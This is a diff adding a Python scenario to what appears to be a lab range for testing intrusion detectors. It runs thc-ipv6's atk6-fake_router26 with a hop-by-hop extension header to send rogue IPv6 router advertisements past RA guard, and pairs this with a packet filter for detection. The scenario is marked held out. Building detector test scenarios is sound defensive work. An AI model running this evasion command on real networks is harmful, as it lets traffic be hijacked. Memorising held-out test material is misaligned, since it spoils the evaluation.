@@ -1,0 +1,38 @@
+"""atk6-fake_router26 with extension headers before the advertisement, from which RA guard looks away."""
+
+from lab import servers
+from lab.range import Range
+from lab.scenario import Scenario
+
+
+def run(net: Range) -> None:
+    attacker, router, pc3 = net.inside("attacker"), net.router(), net.inside("pc3")
+    net.everyday(lead=0.5)
+    servers.router_advertisements(router, "eth0", "fd00:20::/64", "fd00:20::53")
+    net.loop(pc3, "rdisc6 -1 -q eth0 || ping -6 -n -c 1 -W 1 ff02::2%eth0", 2.0)
+    net.quiet(4)
+    link_local = router.run("ip", "-6", "-o", "addr", "show", "dev", "eth0", "scope", "link").stdout.split()
+    with net.attack(
+        "rogue-router-advertisement",
+        by=attacker,
+        attackers=[attacker.mac],
+        victims=[link_local[3].split("/")[0]],
+        frames="ip6 and (ip6[6] == 0 and ip6[40] == 58 and ip6[48] == 134 or ip6[6] == 60 or ip6[6] == 44)",
+    ):
+        net.tool(
+            attacker,
+            *("atk6-fake_router26", "-E", "H", "-A", "fd00:bad::/64", "-i", "3", "-n", "4", "eth0"),
+            seconds=14,
+        )
+    net.quiet(2)
+
+
+SCENARIO = Scenario(
+    name="rogue-router-advertisement-held-hidden",
+    about="atk6-fake_router26 hides its advertisement behind a hop-by-hop header, one in three seconds.",
+    detectors=("rogue-router-advertisement",),
+    tools={"atk6-fake_router26": "thc-ipv6", "radvd": "radvd"},
+    held_out=True,
+    run=run,
+    snap_octets=400,
+)
